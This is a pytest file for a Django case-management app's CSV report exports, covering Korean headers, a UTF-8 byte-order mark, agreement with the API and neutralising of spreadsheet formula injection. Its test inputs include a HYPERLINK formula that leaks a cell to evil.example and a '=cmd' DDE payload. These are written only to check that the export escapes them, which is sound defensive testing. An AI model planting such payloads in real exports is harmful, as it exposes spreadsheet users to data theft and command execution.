"""CSV downloads: what the API says, in a file Excel opens in Korean, with formulas neutralised."""

from __future__ import annotations

import csv
import io

import pytest

from accounts.models import Role, User
from cases.models import Platform
from cases.reports.export import neutralise
from tests.cases.conftest import open_case
from tests.cases.reports.conftest import World
from tests.factories import UserFactory

pytestmark = pytest.mark.django_db


def _csv(response) -> list[list[str]]:
    body = response.content
    assert body.startswith("\ufeff".encode()), "a byte-order mark, so that Excel reads UTF-8"
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def test_it_writes_utf8_with_a_byte_order_mark(client_as, carol: User, world: World) -> None:
    response = client_as(carol).get("/reports/workload/counsellors.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="caseflow-workload-counsellors-')
    rows = _csv(response)
    assert rows[0][0] == "상담원"  # the header in the reader's language (Korean by default)
    assert "미배정(접수 대기열)" in [row[0] for row in rows]


def test_it_says_in_csv_what_the_api_says(client_as, api_as, carol: User, world: World) -> None:
    query = "from=2025-01-01&to=2026-12-31"
    table = api_as(carol).get(f"/api/v1/reports/platforms/?{query}").json()["tables"][0]
    rows = _csv(client_as(carol).get(f"/reports/platforms/platforms.csv?{query}"))
    keys = [column["key"] for column in table["columns"]]
    for api_row, csv_row in zip([*table["rows"], table["footer"]], rows[1:], strict=True):
        for key, cell in zip(keys, csv_row, strict=True):
            value = api_row[key]
            if value is None:
                assert cell == ""
            elif key == "removal_rate":
                assert cell == f"{value * 100:.1f}"
            elif isinstance(value, float):
                assert cell == f"{value:.1f}"
            else:
                assert cell == str(value)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_it_neutralises_a_cell_that_a_spreadsheet_would_run(client_as, carol: User, world: World, start: str) -> None:
    name = f'{start}HYPERLINK("https://evil.example/?"&A1,"click")'
    mallory = UserFactory.create(email="m@seoul.test", full_name=name, centre=carol.centre, role=Role.COUNSELLOR)
    open_case(mallory)
    rows = _csv(client_as(carol).get("/reports/workload/counsellors.csv"))
    cells = [cell for row in rows for cell in row]
    assert "'" + name in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


def test_it_neutralises_a_platform_name(client_as, carol: User, world: World) -> None:
    Platform.objects.filter(name="Telegram").update(name="=cmd|' /C calc'!A0")
    rows = _csv(client_as(carol).get("/reports/platforms/platforms.csv?from=2025-01-01"))
    assert "'=cmd|' /C calc'!A0" in [row[0] for row in rows]


def test_it_leaves_ordinary_cells_alone() -> None:
    assert neutralise("김민지") == "김민지"
    assert neutralise("12.5") == "12.5"
    assert neutralise("a=b") == "a=b"
    assert neutralise("-") == "'-"
